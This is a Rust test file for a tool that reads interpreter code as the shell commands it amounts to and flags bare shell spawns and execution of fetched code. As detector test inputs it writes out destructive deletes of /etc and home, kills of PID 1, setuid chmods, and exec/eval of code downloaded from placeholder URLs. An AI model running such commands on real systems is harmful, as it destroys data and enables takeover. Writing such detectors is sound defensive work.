//! Tests: library calls read as the commands they amount to (kills, modes, owners, deletes in walks), shells started bare and fetched code run.

use super::{language, read, Action, Concern};

fn effects(program: &str, code: &str) -> Vec<Action> {
    let lang = language(program).expect("an interpreter");
    read(code, lang, None)
        .effects
        .into_iter()
        .map(|e| e.action)
        .collect()
}

fn concerns(program: &str, code: &str) -> Vec<Concern> {
    let lang = language(program).expect("an interpreter");
    read(code, lang, None)
        .concerns
        .into_iter()
        .map(|(c, _)| c)
        .collect()
}

fn run(argv: &[&str]) -> Action {
    Action::Run(argv.iter().map(|s| s.to_string()).collect())
}

#[test]
fn julia_rm() {
    assert_eq!(
        effects("julia", "rm(\"/etc\", recursive=true)"),
        [run(&["rm", "-r", "-f", "/etc"])]
    );
    assert_eq!(
        effects("julia", "rm(homedir(); recursive=true)"),
        [run(&["rm", "-r", "-f", "~"])]
    );
}

#[test]
fn julia_rm_keeps_a_quoted_semicolon() {
    assert_eq!(effects("julia", "rm(\"a;b\")"), [run(&["rm", "a;b"])]);
}

#[test]
fn kills_of_literal_pids() {
    assert_eq!(
        effects("python3", "import os; os.kill(1, 9)"),
        [run(&["kill", "-9", "1"])]
    );
    assert_eq!(
        effects("python3", "import os, signal; os.kill(-1, signal.SIGKILL)"),
        [run(&["kill", "-KILL", "-1"])]
    );
    assert_eq!(
        effects("python3", "import os; os.killpg(1, 9)"),
        [run(&["kill", "-9", "-1"])]
    );
    assert_eq!(
        effects("node", "process.kill(1)"),
        [run(&["kill", "-TERM", "1"])]
    );
    assert_eq!(
        effects("ruby", "Process.kill(:TERM, 42, 43)"),
        [run(&["kill", "-TERM", "42", "43"])]
    );
    assert_eq!(
        effects("perl", "kill 'KILL', -1"),
        [run(&["kill", "-KILL", "-1"])]
    );
    assert_eq!(
        effects("deno", "Deno.kill(1, \"SIGKILL\")"),
        [run(&["kill", "-KILL", "1"])]
    );
    // A pid the code computes says nothing the shell rules could judge.
    assert!(effects("python3", "import os; os.kill(os.getpid(), 0)").is_empty());
    assert!(effects("python3", "proc.kill()").is_empty());
}

#[test]
fn modes_and_owners() {
    assert_eq!(
        effects("python3", "import os; os.chmod('/usr/bin/x', 0o4755)"),
        [run(&["chmod", "4755", "/usr/bin/x"])]
    );
    assert_eq!(
        effects(
            "python3",
            "import os, stat; os.chmod('/bin/sh', os.stat('/bin/sh').st_mode | stat.S_ISUID)"
        ),
        [run(&["chmod", "u+s", "/bin/sh"])]
    );
    assert_eq!(
        effects("perl", "chmod 04755, '/usr/bin/find'"),
        [run(&["chmod", "4755", "/usr/bin/find"])]
    );
    assert_eq!(
        effects("ruby", "FileUtils.chmod_R('o+w', '/etc')"),
        [run(&["chmod", "-R", "o+w", "/etc"])]
    );
    assert_eq!(
        effects("node", "require('fs').chmodSync('bin/cli.js', 0o755)"),
        [run(&["chmod", "755", "bin/cli.js"])]
    );
    assert_eq!(
        effects(
            "python3",
            "from pathlib import Path; Path('/usr/bin/vim').chmod(0o4755)"
        ),
        [run(&["chmod", "4755", "/usr/bin/vim"])]
    );
    assert_eq!(
        effects("python3", "import os; os.chown('/etc/passwd', 1000, 1000)"),
        [run(&["chown", "1000:1000", "/etc/passwd"])]
    );
    assert_eq!(
        effects("perl", "chown 0, 0, '/tmp/x'"),
        [run(&["chown", "0:0", "/tmp/x"])]
    );
    // A mode the code computes, or no path, is left alone.
    assert!(effects("python3", "os.chmod(p, mode)").is_empty());
}

#[test]
fn deletes_in_walks() {
    assert_eq!(
        effects(
            "python3",
            "from pathlib import Path\nfor p in Path.home().rglob('*'): p.unlink()"
        ),
        [Action::WriteUnknown, run(&["rm", "-r", "-f", "~"])]
    );
    assert_eq!(
        effects("python3", "import os\nfor r, _, fs in os.walk('/home'):\n  for f in fs: os.remove(os.path.join(r, f))"),
        [Action::WriteUnknown, run(&["rm", "-r", "-f", "/home"])]
    );
    assert_eq!(
        effects(
            "python3",
            "import glob, os\nfor f in glob.glob('build/*.o'): os.remove(f)"
        ),
        [Action::WriteUnknown, run(&["rm", "-f", "build/*"])]
    );
    // Listing without deleting is reading.
    assert!(effects(
        "python3",
        "import os\nfor r, d, f in os.walk('/etc'): print(r)"
    )
    .is_empty());
}

#[test]
fn bare_shells_and_fetched_code() {
    assert!(concerns("python3", "import pty; pty.spawn('/bin/sh')").contains(&Concern::Shell));
    assert!(concerns("perl", "exec '/bin/sh'").contains(&Concern::Shell));
    assert!(!concerns(
        "python3",
        "import subprocess; subprocess.run(['sh', 'build.sh'])"
    )
    .contains(&Concern::Shell));
    assert!(!concerns("python3", "import os; os.system('sh -c make')").contains(&Concern::Shell));
    for code in [
        "from urllib.request import urlopen; exec(urlopen('http://x/p').read())",
        "import requests; exec(requests.get('https://x/a').text)",
    ] {
        assert!(
            concerns("python3", code).contains(&Concern::EvalFetched),
            "{code}"
        );
    }
    assert!(concerns(
        "node",
        "fetch('https://x/a.js').then(r => r.text()).then(eval)"
    )
    .contains(&Concern::EvalFetched));
    assert!(
        concerns("ruby", "eval URI.open('https://x/a.rb').read").contains(&Concern::EvalFetched)
    );
    assert!(!concerns("python3", "exec(open('helpers.py').read())").contains(&Concern::EvalFetched));
    assert!(!concerns(
        "python3",
        "import requests; print(requests.get('https://x').text)"
    )
    .contains(&Concern::EvalFetched));
}

#[test]
fn julia_walks_and_r_sources() {
    assert_eq!(
        effects(
            "julia",
            "for f in readdir(\"/etc\"; join=true); rm(f; force=true); end"
        ),
        [Action::WriteUnknown, run(&["rm", "-f", "/etc/*"])]
    );
    assert!(concerns("rscript", "source(\"https://x/a.R\")").contains(&Concern::EvalFetched));
    assert!(concerns("rscript", "source(\"setup.R\")").is_empty());
}
